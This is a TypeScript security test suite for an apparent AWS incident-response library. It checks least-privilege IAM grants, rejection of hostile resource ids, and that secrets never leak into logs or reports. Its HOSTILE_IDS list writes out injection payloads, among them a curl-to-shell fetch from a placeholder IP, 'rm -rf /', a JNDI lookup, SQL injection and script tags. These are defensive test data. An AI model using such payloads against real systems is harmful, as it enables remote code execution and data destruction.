import { readFile } from "node:fs/promises";
import { describe, expect, it } from "vitest";
import * as z from "zod";
import { TASK_CONTRACTS } from "../../functions/registry.js";
import { InMemoryHistory } from "../../workflows/local/history.js";
import { approveUntilSettled, runnerFor, scenario } from "./support.js";

/** The security properties of the whole library and a whole incident, as tests. */

const WILDCARD = /\*/;
const EXACT_ACTION = /^[a-z0-9-]+:[A-Za-z0-9]+$/;

describe("security: least privilege", { timeout: 120_000 }, () => {
  it("no task's IAM names a wildcard action (*, svc:*, svc:Get*), in the registry or the committed manifest", async () => {
    const actions = TASK_CONTRACTS.flatMap((task) => task.iam.flatMap((grant) => grant.actions.map((action) => `${task.name} ${action}`)));
    expect(actions.length).toBeGreaterThan(50);
    expect(actions.filter((a) => WILDCARD.test(a) || !EXACT_ACTION.test(a.split(" ")[1]!))).toEqual([]);

    const manifest = JSON.parse(await readFile(new URL("../../workflows/generated/manifest.json", import.meta.url), "utf8")) as { tasks: Record<string, { iam: { actions: string[] }[] }> };
    const inManifest = Object.entries(manifest.tasks).flatMap(([name, task]) => task.iam.flatMap((grant) => grant.actions.map((action) => `${name} ${action}`)));
    expect(inManifest.filter((a) => WILDCARD.test(a.split(" ")[1]!) || !EXACT_ACTION.test(a.split(" ")[1]!))).toEqual([]);
    expect(new Set(inManifest)).toEqual(new Set(actions.filter((a) => a.split(" ")[0]! in manifest.tasks)));
  });
});

/** Strings no AWS id, name or ARN field may accept. */
const HOSTILE_IDS = [
  "i-123; rm -rf /",
  "$(curl http://203.0.113.9/x|sh)",
  "`id`",
  "' OR 1=1 --",
  "<script>alert(1)</script>",
  "${jndi:ldap://203.0.113.9/a}",
  "a b",
  "\u202ei-0123456789abcdef0",
  "i-0123456789\u200babcdef0",
  "ｉ-0123456789abcdef0",
  "i-0123456789abcdef0\n",
  "",
  "*",
  "x".repeat(5000),
];

const AWS_ALLOWS: Readonly<Record<string, RegExp>> = { autoScalingGroupName: /^[!-9;-~]{1,255}$/ };

const ID_FIELD = /(?:id|ids|name|names|arn|arns|^ip|cidr)$/i;

/** The schema inside optional/default/nullable wrappers, and whether it is an array of it. */
function unwrap(schema: z.ZodType): { base: z.ZodType; array: boolean } {
  let current: z.ZodType = schema;
  let array = false;
  for (let i = 0; i < 8; i += 1) {
    if (current instanceof z.ZodOptional || current instanceof z.ZodNullable || current instanceof z.ZodDefault) current = current.unwrap() as z.ZodType;
    else if (current instanceof z.ZodArray) {
      array = true;
      current = current.element as z.ZodType;
    } else break;
  }
  return { base: current, array };
}

describe("security: every write task validates resource ids before calling AWS", { timeout: 120_000 }, () => {
  const writeTasks = TASK_CONTRACTS.filter((task) => task.risk !== "read");

  it("there are write tasks, and each has id fields in its input", () => {
    expect(writeTasks.length).toBeGreaterThan(15);
    const withoutIds = writeTasks.filter((task) => !Object.keys(task.input.shape).some((key) => ID_FIELD.test(key)));
    expect(withoutIds.map((t) => t.name)).toEqual([]);
  });

  it.each(writeTasks.map((task) => [task.name, task] as const))("%s refuses hostile ids in every id field", (_name, task) => {
    const accepted: string[] = [];
    for (const [key, field] of Object.entries(task.input.shape)) {
      if (!ID_FIELD.test(key)) continue;
      const { base, array } = unwrap(field as z.ZodType);
      for (const hostile of HOSTILE_IDS) {
        // AWS itself allows printable ASCII but ":" in an Auto Scaling group name: such a string is a name, not an attack.
        if (AWS_ALLOWS[key]?.test(hostile)) continue;
        const value = array ? [hostile] : hostile;
        // The field alone, and the whole input with only this field hostile: both must refuse.
        if (base.safeParse(hostile).success) accepted.push(`${key}=${JSON.stringify(hostile).slice(0, 40)}`);
        const whole = task.input.safeParse({ [key]: value });
        if (whole.success) accepted.push(`input.${key}=${JSON.stringify(hostile).slice(0, 40)}`);
      }
    }
    expect(accepted).toEqual([]);
  });
});

describe("security: secrets never reach logs, notifications, history or the report", { timeout: 120_000 }, () => {
  it("a full incident with manual approvals leaks neither the task tokens nor a secret access key planted in the event", async () => {
    const SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETKEY1";
    const s = await scenario("ec2-instance-compromise");
    const history = new InMemoryHistory();
    const runner = await runnerFor(s, { history });
    const event = structuredClone(s.event) as unknown as Record<string, unknown>;
    // Where a careless forwarder or an attacker would put one: free text, and fields irflow does not read.
    const detail = event.detail as Record<string, unknown>;
    detail.secretAccessKey = SECRET;
    (detail.service as Record<string, unknown>).additionalInfo = { value: `aws_secret_access_key=${SECRET}` };
    const tokens = new Set<string>();
    const run = runner.runIncident({ runbookId: s.runbook!, event, approvals: "manual" });
    const watch = setInterval(() => {
      for (const pending of runner.engine.pendingTokens()) tokens.add(pending.token);
    }, 1);
    let result;
    try {
      result = await approveUntilSettled(runner, run);
    } finally {
      clearInterval(watch);
    }
    for (const pending of runner.engine.pendingTokens()) tokens.add(pending.token);
    expect(tokens.size).toBeGreaterThan(0);
    expect(runner.records.get(result.incidentId!)?.approvals.length).toBeGreaterThan(0);

    const secrets = [SECRET, ...tokens];
    const leaks = (where: string, texts: readonly string[]) => texts.flatMap((text) => secrets.filter((secret) => text.includes(secret)).map((secret) => `${where}: ${secret.slice(0, 12)}…`));

    const logLines = runner.logs.map((entry) => JSON.stringify(entry));
    const sns = Object.values(s.account.snapshot().sns.topics).flatMap((topic) => topic.messages.map((m) => JSON.stringify(m)));
    const report = await readFile(result.reportLocation!, "utf8");
    const approvals = JSON.stringify(await runner.approvals.list());
    expect(sns.length).toBeGreaterThan(0);
    expect(logLines.length).toBeGreaterThan(0);

    // Task tokens: nowhere, not even in the history (it holds a digest) or the audit log.
    const everyHistoryEvent = history.executions().flatMap((arn) => history.events(arn).map((event) => ({ arn, event })));
    const auditEntries = runner.records.log.entriesNow(result.incidentId!);
    const historyText = everyHistoryEvent.map(({ event }) => JSON.stringify(event));
    const auditText = auditEntries.map((e) => JSON.stringify(e));
    expect(leaks("log", logLines)).toEqual([]);
    expect(leaks("sns", sns)).toEqual([]);
    expect(leaks("report", [report])).toEqual([]);
    expect(leaks("approvals", [approvals])).toEqual([]);
    expect([...tokens].filter((token) => [...historyText, ...auditText].some((text) => text.includes(token)))).toEqual([]);

    // The planted key: the raw event is evidence, kept verbatim until detect normalises it (the
    // incident machine's input, its Detect state, the detect phase, the `incident.opened` entry);
    // from the incident document on (every later phase, message and report) it is gone.
    const carriesRawEvent = ({ arn, event }: (typeof everyHistoryEvent)[number]) =>
      arn.includes("-detect:") || event.type === "ExecutionStarted" || JSON.stringify(event).includes("/detect") || JSON.stringify(event).includes("-detect:") || ("name" in event.details && event.details.name === "Detect");
    const beyondDetect = everyHistoryEvent.filter((e) => JSON.stringify(e.event).includes(SECRET) && !carriesRawEvent(e)).map(({ arn, event }) => `${arn.split(":").at(-2)} ${event.type}`);
    expect(beyondDetect).toEqual([]);
    expect(auditEntries.filter((e) => JSON.stringify(e).includes(SECRET)).map((e) => e.kind)).toEqual(["incident.opened"]);
  });
});
